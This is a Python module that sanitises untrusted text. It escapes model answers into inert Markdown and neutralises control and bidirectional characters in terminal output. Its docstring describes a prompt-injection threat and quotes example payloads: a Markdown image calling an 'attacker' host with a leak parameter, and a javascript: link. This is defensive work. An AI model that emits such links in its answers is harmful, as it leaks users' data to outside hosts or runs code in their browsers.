"""Show untrusted text safely: answers as inert Markdown, names and snippets on a terminal.

Answers quote documents, and a prompt-injected model can write anything: rendered as
Markdown, ``![p](http://attacker/?leak=...)`` makes the reader's browser call out, and
``[click](javascript:...)`` runs code. ``inert_markdown`` keeps emphasis, lists, headings
and fenced code, but no image, link, raw HTML or autolink can form. ``terminal_text`` does
the same for a terminal: escape sequences and line breaks in a file name cannot forge output.
"""

import re

# Outside code: backslashes and brackets (every image, inline, reference-style and shortcut
# link needs "[" and "]"), "<" (raw HTML, <autolinks>) and the starts of bare autolinks
# (GFM links "http://", "www." and e-mail addresses), each escaped so it shows as written.
_ACTIVE = re.compile(
    r"(?P<char>[\\\[\]@])|(?P<lt><)|(?P<scheme>(?:https?|ftp|mailto|xmpp):)|(?P<www>www\.)",
    re.IGNORECASE,
)
# A run that could open or close a fenced code block anywhere (in a list, a quote, ...).
_FENCE_RUN = re.compile(r"`{3,}|~{3,}")
# A fenced code block's opening line (CommonMark: up to 3 spaces of indentation).
_OPENING = re.compile(r"^ {0,3}(?P<fence>`{3,}(?=[^`\n]*$)|~{3,})(?P<info>[^\n]*)$", re.MULTILINE)
# C0/C1 controls (escape sequences, carriage return, backspace) and bidirectional overrides,
# which can reorder what a terminal shows.
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
_CONTROL_OR_BREAK = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def inert_markdown(text: str) -> str:
    """``text`` as Markdown that cannot load remote content or hold a link.

    Images, links (inline, reference-style, autolinks, bare URLs) and raw HTML are shown as
    the plain text they were written as. Fenced code blocks keep their content verbatim,
    re-fenced so that nothing outside them can be taken for code or the other way round.
    """
    parts: list[str] = []
    position = 0
    for start, body_start, body_end, end in _code_blocks(text):
        parts += [_escape(text[position:start]), _fenced(text[body_start:body_end])]
        position = end
    parts.append(_escape(text[position:]))
    return "".join(parts)


def terminal_text(text: str, *, keep_newlines: bool = False) -> str:
    """``text`` with control characters shown as escapes (``\\x1b``, ``\\n``), so it prints
    as one inert piece; ``keep_newlines`` keeps line breaks and tabs (for answers)."""
    pattern = _CONTROL if keep_newlines else _CONTROL_OR_BREAK
    return pattern.sub(lambda m: m.group().encode("unicode_escape").decode("ascii"), text)


def _code_blocks(text: str) -> list[tuple[int, int, int, int]]:
    """(start, body start, body end, end) of each fenced block; unclosed runs to the end."""
    blocks: list[tuple[int, int, int, int]] = []
    search_from = 0
    while opening := _OPENING.search(text, search_from):
        fence = opening.group("fence")
        closing = re.compile(
            rf"^ {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}[ \t]*$", re.MULTILINE
        ).search(text, opening.end())
        body_start = min(opening.end() + 1, len(text))
        body_end = len(text) if closing is None else closing.start()
        end = len(text) if closing is None else closing.end()
        blocks.append((opening.start(), body_start, body_end, end))
        search_from = max(end, opening.end() + 1)
    return blocks


def _fenced(body: str) -> str:
    """``body`` in a tilde fence longer than any tilde run inside, so only this closes it."""
    longest = max((len(run) for run in re.findall(r"~+", body)), default=0)
    fence = "~" * max(3, longest + 1)
    return f"{fence}\n{body.removesuffix(chr(10))}\n{fence}"


def _escape(text: str) -> str:
    def neutral(match: re.Match[str]) -> str:
        if match.group("lt"):
            return "&lt;"
        if match.group("char"):
            return "\\" + match.group()
        found = match.group()  # "http\:", "www\.": still readable, no longer an autolink
        return found[:-1] + "\\" + found[-1]

    escaped = _ACTIVE.sub(neutral, text)
    return _FENCE_RUN.sub(lambda m: "\\" + m.group(), escaped)
